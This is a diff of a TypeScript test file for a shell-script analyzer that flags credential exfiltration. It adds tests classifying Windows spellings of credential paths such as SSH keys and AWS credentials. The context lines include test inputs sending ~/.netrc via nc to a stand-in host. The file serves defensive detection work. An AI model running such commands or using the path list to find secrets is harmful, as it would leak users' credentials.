@@ -1,9 +1,9 @@
 /** What secret material reaches a command's stdin (src/extract/exfil-sources.ts), read through the real normalizer. */
 import { describe, expect, it } from 'vitest';
-import { stdinSecret } from '../../src/extract/exfil-sources.js';
+import { isCredentialPath, stdinSecret } from '../../src/extract/exfil-sources.js';
 import { parseScript } from '../../src/parse/parse.js';
 import { normalize } from '../../src/normalize/index.js';
-import { analyzeContext } from '../helpers/command.js';
+import { analyzeContext, command } from '../helpers/command.js';
 
 const ctx = analyzeContext();
 
@@ -35,4 +35,18 @@ describe('a dotfile manager printing a credential file', () => {
     ['chezmoi cat ~/.bashrc | nc drop.example.net 9000', ''],
     ['nc drop.example.net 9000 < <(chezmoi cat ~/.netrc)', 'credential-file'],
   ])('%s → %j', (script, want) => expect(lastStdin(script)).toBe(want));
+});
+
+describe('a credential path in its Windows spellings', () => {
+  it.each<[string, boolean]>([
+    ['%USERPROFILE%\\.aws\\credentials', true],
+    ['C:\\Users\\dev\\.ssh\\id_rsa', true],
+    // the same path written unquoted in bash, its backslashes dropped
+    ['C:Usersdev.sshid_rsa', true],
+    ['C:Usersdev.kubeconfig', true],
+    ['$env:USERPROFILE\\.docker\\config.json', true],
+    ['C:\\Users\\dev\\.ssh\\known_hosts', false],
+    ['C:Usersdev.sshid_rsa.pub', false],
+    ['C:\\build\\app.zip', false],
+  ])('%s → %s', (raw, want) => expect(isCredentialPath(raw, command(['x']), ctx)).toBe(want));
 });
